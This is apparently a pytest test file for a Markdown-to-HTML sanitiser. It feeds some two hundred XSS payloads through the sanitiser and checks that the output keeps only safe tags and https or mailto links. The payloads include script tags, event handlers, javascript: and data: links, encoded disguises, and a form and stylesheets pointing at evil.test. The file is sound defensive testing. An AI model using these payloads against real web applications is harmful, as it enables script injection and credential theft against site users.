"""What Markdown becomes: the useful part of it, and nothing that runs, calls home or leads astray."""

import time
from html.parser import HTMLParser

import pytest

from skillbridge_backend.core.markdown import ATTRIBUTES, Kind, plain, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://ok.test' onclick='alert(1)'>x</a>",
    "<form action='https://evil.test'><input name=password></form>",
    "<style>@import 'https://evil.test';</style>",
    "<link rel=stylesheet href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href='https://evil.test'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](http://plain.test)",
    "[x](//evil.test)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.test "onmouseover=alert(1)")',
    '[x](https://ok.test/"onmouseover="alert(1))',
    "![x](https://tracker.test/pixel.gif)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onclick=alert(1)\ncode\n```",
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
    "# <svg/onload=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <iframe src=//evil.test>",
    '<a href="https://ok.test" style="position:fixed;inset:0">x</a>',
    "<p id=__proto__ class=admin>x</p>",
]


EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerdown")
ELEMENTS = ("img src=x", "svg", "body", "details open", "video", "input autofocus", "marquee", "a href=https://ok.test")
SCHEMES = (
    "javascript:",
    "vbscript:",
    "data:text/html,",
    "file:///",
    "blob:",
    "ftp://",
    "http://",
    "//",
    "\\\\evil.test",
)
DISGUISES = ("{}", "&#9;{}", "%0a{}", "\t{}", "\u0000{}", "\u200b{}", "&Tab;{}", "//ok.test@{}")
# Each handler in each element, plain, in a link's text, and left open; each scheme in each disguise.
MADE = [
    shape.format(f"{element} {event}=alert(1)")
    for element in ELEMENTS
    for event in EVENTS
    for shape in ("<{}>", "[<{}>](https://ok.test)", "<{}//")
] + [f"[x]({disguise.format(scheme)}alert(1))" for scheme in SCHEMES for disguise in DISGUISES]


class Strict(HTMLParser):
    """Fails on every element, attribute and address that is not allowed in this kind of field."""

    def __init__(self, kind: Kind) -> None:
        super().__init__()
        self.kind = kind

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.kind.value, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), (tag, name)
            if name == "href":
                assert value is not None
                assert value.startswith(("https://", "mailto:")), value
            if name == "class":
                assert value is not None
                assert value.startswith("language-")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


@pytest.mark.parametrize("kind", Kind)
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_gets_through(attack: str, kind: Kind) -> None:
    for text in (attack, f"text {attack} text", f"- {attack}", f"> {attack}\n\nafter"):
        parser = Strict(kind)
        parser.feed(render(text, kind))
        parser.close()


@pytest.mark.parametrize("kind", Kind)
def test_nothing_dangerous_gets_through_however_it_is_dressed(kind: Kind) -> None:
    for attack in MADE:
        parser = Strict(kind)
        parser.feed(render(attack, kind))
        parser.close()


def test_plain_text_has_no_element_left_and_keeps_its_signs() -> None:
    assert plain("a <b>bold</b> word, 1 < 2 & so on") == "a bold word, 1 < 2 & so on"
    for attack in ATTACKS:
        assert "<" not in plain(plain(attack)) or "&" in attack


def test_profile_has_paragraphs_lists_and_links_and_no_headings_or_tables() -> None:
    html = render("# Hello\n\n- **a** [b](https://ok.test)", Kind.PROFILE)
    link = '<a href="https://ok.test" rel="nofollow ugc noopener noreferrer">b</a>'
    assert html == f"Hello\n<ul>\n<li><strong>a</strong> {link}</li>\n</ul>\n"
    assert "<t" not in render("| a |\n|---|\n| 1 |", Kind.PROFILE)


def test_there_are_at_least_two_hundred_attacks() -> None:
    assert len(set(ATTACKS) | set(MADE)) >= 200


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
        ("# h\n\n---", "<h1>h</h1>\n<hr>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("```python\nx = 1 < 2\n```", '<pre><code class="language-python">x = 1 &lt; 2\n</code></pre>\n'),
        (
            "[x](https://ok.test)",
            '<p><a href="https://ok.test" rel="nofollow ugc noopener noreferrer">x</a></p>\n',
        ),
        ("<ada@x.test>", '<p><a href="mailto:ada@x.test" rel="nofollow ugc noopener noreferrer">ada@x.test</a></p>\n'),
        ("a <b> c & d", "<p>a &lt;b&gt; c &amp; d</p>\n"),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
    ],
)
def test_useful_markdown_is_kept(markdown: str, html: str) -> None:
    assert render(markdown, Kind.POST) == html


def test_table_is_kept() -> None:
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |", Kind.POST)


@pytest.mark.parametrize(
    "unit", ["[", "*", "`", "> ", "![", "<", "&", "a**b", "[a](", "|-", "- ", "_a ", "\\", "<a@b.c>", "~~"]
)
def test_longest_hostile_body_renders_quickly(unit: str) -> None:
    text = (unit * 20_000)[:20_000]
    started = time.process_time()
    render(text, Kind.POST)
    assert time.process_time() - started < 5
